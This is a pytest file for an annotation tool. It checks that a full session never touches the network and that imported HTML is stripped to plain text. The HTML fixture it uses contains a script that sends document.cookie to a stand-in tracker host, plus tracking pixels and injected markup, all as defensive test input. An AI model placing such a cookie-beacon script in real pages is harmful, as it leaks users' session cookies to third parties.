"""No network access anywhere: a whole session (window, HTML import, every export) never connects.

Imported HTML is reduced to text: scripts and styles are dropped, images are never fetched.
"""

from __future__ import annotations

import shutil
import socket
from pathlib import Path

import pytest

from kzannotate.formats.exports import FORMATS, run_export
from kzannotate.store import Project
from kzannotate.text.importer import import_files, read_source_file
from kzannotate.ui.app import make_settings
from kzannotate.ui.main_window import MainWindow

HOSTILE_HTML = """<!doctype html>
<html lang="en"><head><title>Almaty, 5 January</title>
<style>body { background: url(http://tracker.example/bg.png) } .secret-style { color: red }</style>
<script>fetch("http://tracker.example/beacon?x=" + document.cookie); var secretScript = 1;</script>
<link rel="stylesheet" href="http://tracker.example/style.css">
</head><body>
<article><h1>Protests in Almaty</h1>
<p>Protesters gathered on Republic Square in Almaty on 5 January 2022, where the akimat was set on fire.
The crowd grew through the afternoon as news spread of the fuel price rise in Zhanaozen.</p>
<img src="http://tracker.example/pixel.gif" alt="">
<iframe src="http://tracker.example/frame"></iframe>
<p>Officials later spoke of &lt;trained terrorists&gt; &amp; foreign fighters; witnesses described
ordinary residents, many of them young men from the city's outskirts.</p>
<script>document.write("<p>injected paragraph</p>")</script>
</article></body></html>
"""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every way out of the machine raises and is recorded."""
    attempts: list[str] = []

    def refuse(what: str):
        def fail(*args, **kwargs):
            attempts.append(f"{what}{args[1:] if what == 'socket.connect' else args}")
            raise OSError("network access is forbidden in this test")
        return fail

    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("socket.connect_ex"))
    monkeypatch.setattr(socket, "create_connection", refuse("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("socket.getaddrinfo"))
    return attempts


def test_a_full_session_never_touches_the_network(qtbot, no_network: list[str], seeds_project: Project,
                                                  tmp_path: Path) -> None:
    seeds_project.close()
    path = tmp_path / "session.kza"
    shutil.copy(seeds_project.path, path)
    html = tmp_path / "almaty.html"
    html.write_text(HOSTILE_HTML, encoding="utf-8")
    window = MainWindow(make_settings())
    qtbot.addWidget(window)
    window.open_initial(path)
    window.show()
    qtbot.waitExposed(window)
    project = window.project
    [result] = import_files(project, [html])
    assert result.ok, result.error
    window.show_source(result.source_id)
    source = project.get_source(result.source_id)
    project.add_annotation(source.id, 0, 20, actor_ids=[project.list_actors()[0].id])
    out = tmp_path / "exports"
    out.mkdir()
    for key, fmt in FORMATS.items():
        run_export(project, key, out / f"all{fmt.suffix}")
    assert len(list(out.iterdir())) >= len(FORMATS)
    html_report = (out / f"all{FORMATS['html'].suffix}").read_text(encoding="utf-8")
    assert "<script" not in html_report.lower()
    for feature in window.features:
        waiter = getattr(feature, "wait_for_backup", None)
        if waiter:
            waiter()
    window.close()
    assert no_network == [], no_network


def test_imported_html_is_reduced_to_text(tmp_path: Path, no_network: list[str]) -> None:
    html = tmp_path / "page.html"
    html.write_text(HOSTILE_HTML, encoding="utf-8")
    imported = read_source_file(html)
    text = imported.text
    assert "Protesters gathered on Republic Square" in text
    assert "<trained terrorists> & foreign fighters" in text  # entities decoded, as plain text
    for leaked in ("fetch(", "secretScript", "secret-style", "background", "document.write", "tracker.example",
                   "injected paragraph", "<p>", "<img"):
        assert leaked not in text, leaked
    assert no_network == []
